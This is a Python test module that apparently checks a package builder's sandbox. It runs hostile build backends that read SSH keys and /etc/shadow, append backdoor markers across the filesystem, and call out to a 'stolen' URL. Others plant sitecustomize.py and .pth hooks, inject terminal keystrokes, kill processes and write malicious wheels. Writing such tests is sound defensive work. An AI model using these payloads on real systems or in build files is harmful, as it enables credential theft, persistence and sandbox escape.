"""Build code that was consented to, and then tries to do more than build."""

from ..cases import OWN
from .recipe import project, sampled

PART = "backends"
COMMANDS = ["build wheel {project} --trust --no-verify --out {out}"]
TAIL = "\nfrom setuptools import setup\nsetup(name='app', version='1.0', packages=['app'])\n"
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        {close}
        os.execve("/bin/sleep", ["sleep", "{seconds}"], {environment})
    os._exit(0)
"""
READING = """
import os, sys
for path in [{paths}]:
    try:
        sys.stderr.write("READ " + open(os.path.expanduser(path)).read(200) + "\\n")
    except OSError:
        pass
"""
WRITING = """
import os
for folder in [{folders}, *os.environ.get("PATH", "").split(":"), "/pw", "/etc", "/usr/lib", "/", "..", "../..", "/proc/1/root", "/run", "/var/tmp", "/dev/shm", "/tmp"]:
    for parent, folders, files in os.walk(folder):
        for name in files:
            if name.endswith((".py", ".txt", ".json")) and ("hatchling" in parent or "thesis" in name or "build_meta" in name or "store" in parent):
                try:
                    with open(os.path.join(parent, name), "a") as file:
                        file.write("# BACKDOOR\\n")
                except OSError:
                    pass
        if parent.count("/") > 12:
            folders.clear()
"""
CALLING = """
import socket, urllib.request
try:
    urllib.request.urlopen("@INDEX@stolen", timeout=3).read()
except Exception:
    pass
for address in [("127.0.0.1", 22), ("1.1.1.1", 53), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(address, 1)
    except OSError:
        pass
"""


def reached(place, _runs):
    hits = place.index.hits(place.prefix)
    return [("escape", "the network was reached from a sandbox")] if hits else []


def cases():
    def backend(name, code, sandbox=True, limit=30, check=None, **rules):
        return project(
            PART,
            name,
            "setuptools",
            files={"setup.py": code + ("" if rules.pop("alone", False) else TAIL)},
            commands=rules.pop("commands", COMMANDS),
            is_trusted=True,
            needs="sandbox" if sandbox else "",
            check=check,
            limit=limit,
            ignored=rules.pop("ignored", OWN),
            **rules,
        )

    home = '"@OUTSIDE@/secret.txt", "@PROJECT@/../../home/.ssh/id_ed25519", "~root/.ssh/id_ed25519", "/etc/shadow", "/etc/machine-id", "/proc/1/environ", "/proc/1/root/etc/shadow"'
    found = [
        backend("reads the home", READING.format(paths=home)),
        backend(
            "reads through /proc",
            "import os\nfor p in os.listdir('/proc'):\n    for n in ('environ', 'cwd/../outside/secret.txt', 'root@OUTSIDE@/secret.txt'):\n        try:\n            print(open(f'/proc/{p}/{n}').read()[:500])\n        except OSError:\n            pass\n",
        ),
        backend("writes wherever it can", WRITING.format(folders='"@OUTSIDE@"')),
        backend(
            "writes through links in its output",
            "import os\nfor d in ('dist', 'build', '/pw/out'):\n    try:\n        os.makedirs(d, exist_ok=True)\n        os.symlink('@OUTSIDE@/thesis.txt', d + '/thesis.whl')\n        os.symlink('/etc/passwd', d + '/app-1.0-py3-none-any.whl')\n    except OSError:\n        pass\n",
        ),
        backend("calls out", CALLING, check=reached),
        backend(
            "mounts and unshares",
            "import ctypes, os\nc = ctypes.CDLL(None)\nfor f in (0x10000000, 0x20000, 0x40000000, 0x10020000):\n    if os.fork() == 0:\n        c.unshare(f)\n        c.mount(b'none', b'/', None, 0x44000, None)\n        c.mount(b'/pw', b'/usr', None, 4096, None)\n        os.system('@SHELL@')\n        os._exit(0)\n    os.wait()\n",
        ),
        backend(
            "traces and signals others",
            "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) not in (os.getpid(), os.getppid(), 1):\n        try:\n            os.kill(int(p), signal.SIGTERM)\n        except OSError:\n            pass\n",
        ),
        backend(
            "pushes keys into the terminal",
            "import fcntl, os, termios\nfor p in ('/dev/tty', '/dev/pts/0', '/proc/self/fd/0'):\n    try:\n        for c in 'touch x\\n':\n            fcntl.ioctl(os.open(p, os.O_RDWR), termios.TIOCSTI, c)\n    except OSError:\n        pass\n",
        ),
        backend(
            "changes the project",
            "for path in ('app/__init__.py', 'pyproject.toml', '@PROJECT@/pyproject.toml'):\n    try:\n        open(path, 'a').write('# changed\\n')\n    except OSError:\n        pass\n",
        ),
        backend(
            "plants a hook for the next build",
            "import os\nfor d in ('/pw', os.path.expanduser('~'), os.environ.get('UV_CACHE_DIR', '/tmp')):\n    for parent, _, files in os.walk(d):\n        for name in ('sitecustomize.py', 'evil.pth', 'pip.conf', 'uv.toml', '.pydistutils.cfg'):\n            try:\n                open(os.path.join(parent, name), 'w').write('import os\\n')\n            except OSError:\n                pass\n",
        ),
    ]
    hook = "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass Hook(BuildHookInterface):\n    pass\n"
    found.append(
        project(
            PART,
            "a hook writes wherever it can",
            "hatchling",
            "[tool.hatch.build.hooks.custom]",
            {"hatch_build.py": WRITING.format(folders='"@OUTSIDE@"') + hook},
            commands=COMMANDS,
            is_trusted=True,
            needs="sandbox",
            ignored=OWN,
        )
    )
    for close, what in [("os.closerange(0, 100)", "closed"), ("pass", "open")]:
        for environment, known in [("{}", "an empty environment"), ("dict(os.environ)", "its environment")]:
            for seconds in ("300",):
                found.append(
                    backend(
                        f"a daemon with {known}, pipes {what}",
                        DAEMON.format(close=close, environment=environment, seconds=seconds),
                        sandbox=False,
                        limit=30,
                        ignored={"memory"},
                    )
                )
    quiet = {"memory", "unclear"}
    found += [
        backend(
            "a child holds the pipes",
            "import subprocess\nsubprocess.Popen(['sleep', '400'])\n",
            False,
            ignored={"memory"},
        ),
        backend(
            "children that start children",
            "import os, time\nleader = os.getpid()\nfor _ in range(6):\n    os.fork()\nif os.getpid() != leader:\n    time.sleep(300)\n    os._exit(0)\n",
            False,
            ignored=quiet,
        ),
        backend(
            "a daemon, then it fails",
            DAEMON.format(close="pass", environment="{}", seconds=301) + "raise SystemExit(3)\n",
            False,
            ignored=quiet,
        ),
        backend(
            "a daemon that ignores signals",
            "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]\n    time.sleep(300)\n    os._exit(0)\n",
            False,
            ignored={"memory"},
        ),
        backend("stops its group", "import os, signal\nos.kill(0, signal.SIGSTOP)\n", False, limit=30, ignored=quiet),
        backend("kills its parents", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", True, ignored=quiet),
        backend("says a million lines", "for n in range(1_000_000):\n    print('line', n)\n", False, limit=60),
        backend(
            "says one line of 300 MB",
            "import sys\nfor _ in range(300):\n    sys.stdout.write('x' * (1 << 20))\n",
            False,
            limit=60,
            check=small_log,
        ),
        backend(
            "says escapes",
            "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')\nraise SystemExit('\\x1b[2Jbroken \\u202e')\n",
            False,
            ignored=quiet,
            check=no_escapes,
        ),
        backend(
            "says bytes that are no text",
            "import sys\nsys.stdout.buffer.write(bytes(range(256)) * 4000)\nraise SystemExit(1)\n",
            False,
            ignored=quiet,
            check=no_escapes,
        ),
        backend("makes nothing", "raise SystemExit(0)\n", False, alone=True, ignored=quiet),
    ]
    wheel = "import os, sys, zipfile\nout = next((sys.argv[i + 1] for i, a in enumerate(sys.argv[:-1]) if a in ('-d', '--dist-dir')), 'dist')\nos.makedirs(out, exist_ok=True)\n"
    for name, code in {
        "a wheel of another name": "zipfile.ZipFile(out + '/other-1-py3-none-any.whl', 'w').close()\n",
        "two wheels": "for n in 'ab':\n    zipfile.ZipFile(out + f'/{n}-1-py3-none-any.whl', 'w').close()\n",
        "an empty wheel": "open(out + '/app-1.0-py3-none-any.whl', 'w').close()\n",
        "a pipe as wheel": "os.mkfifo(out + '/app-1.0-py3-none-any.whl')\n",
        "a folder as wheel": "os.makedirs(out + '/app-1.0-py3-none-any.whl')\n",
        "a wheel of 20 GB that is hollow": "open(out + '/app-1.0-py3-none-any.whl', 'wb').truncate(20 << 30)\n",
        "a wheel with a path above": "zipfile.ZipFile(out + '/app-1.0-py3-none-any.whl', 'w').writestr('../../../outside/thesis.txt', 'x')\n",
        "50,000 files beside the wheel": "for n in range(50_000):\n    open(f'{out}/{n}', 'w').close()\n",
        "a name with newlines": "open(out + '/app-1.0\\n\\x1b[2J-py3-none-any.whl', 'w').close()\n",
        "a link to the secret": "os.symlink('@OUTSIDE@/secret.txt', out + '/app-1.0-py3-none-any.whl')\n",
    }.items():
        found.append(backend(f"hands over {name}", wheel + code, False, ignored={"memory", "unclear"}))
    return sampled(found, 4)


def small_log(place, _runs):
    logs = place.home / ".cache" / "packwright" / "logs"
    large = [path for path in logs.rglob("*") if path.is_file() and path.stat().st_size > 128 << 20]
    size = max((path.stat().st_size >> 20 for path in large), default=0)
    for path in large:
        path.unlink()
    return [("disk", f"a log of {size} MB was kept")] if large else []


def no_escapes(_place, runs):
    bad = [c for c in runs[-1].text if ord(c) < 32 and c not in "\n\t\r" or c in "\u202e\x9b"]
    return [("terminal", f"printed the control character {bad[0]!r}")] if bad else []
